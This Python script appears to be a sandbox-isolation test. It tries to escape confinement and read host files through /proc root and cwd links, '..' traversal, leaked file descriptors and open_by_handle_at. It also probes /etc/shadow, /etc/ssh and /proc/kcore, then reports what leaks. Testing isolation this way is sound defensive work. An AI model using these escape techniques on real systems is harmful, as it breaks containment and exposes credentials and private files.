"""Read files of the host: decoys, home, project, through /proc, `..`, handles and descriptors."""

import ctypes
import os

from prelude import D, attempt, leak, read, report, syscall

for path in D["files"]:
    leak(f"read {path}", read, path)
    for root in ("/proc/1/root", "/proc/self/root", f"/proc/{os.getppid()}/root", "/../../.."):
        leak(f"read {root}{path}", read, root + path)
    for cwd in ("/proc/self/cwd", f"/proc/{os.getppid()}/cwd", f"/proc/{D['pid']}/cwd"):
        leak(f"read through {cwd}", read, f"{cwd}/{os.path.relpath(path, D['cwd'])}")
for folder in D["folders"]:
    attempt(f"list {folder}", lambda folder=folder: sorted(os.listdir(folder))[:3])


def listed(path):
    """A folder in which only the way to Python is left does not count."""
    names = os.listdir(path)
    if len(names) < 3:
        raise ValueError(f"only {names}")
    return names[:5]


for folder in (D["real_home"], D["project"], "/root", "/home", "/var/log", "/etc/ssh"):
    attempt(f"list {folder}", listed, folder)
for path in ("/etc/shadow", "/etc/passwd-", "/proc/kcore"):
    attempt(f"read {path}", lambda path=path: len(read(path, 64)))


def by_handle(path):
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.memmove(handle, ctypes.byref(ctypes.c_uint(128)), 4)
    mount = ctypes.c_int()
    syscall("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)
    fd = syscall("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    return os.read(fd, 4096)


leak("open by handle", by_handle, D["files"][0])
for fd in range(3, 64):
    leak(f"from descriptor {fd}", read, f"/proc/self/fd/{fd}/../../../../..{D['files'][0]}")
report()
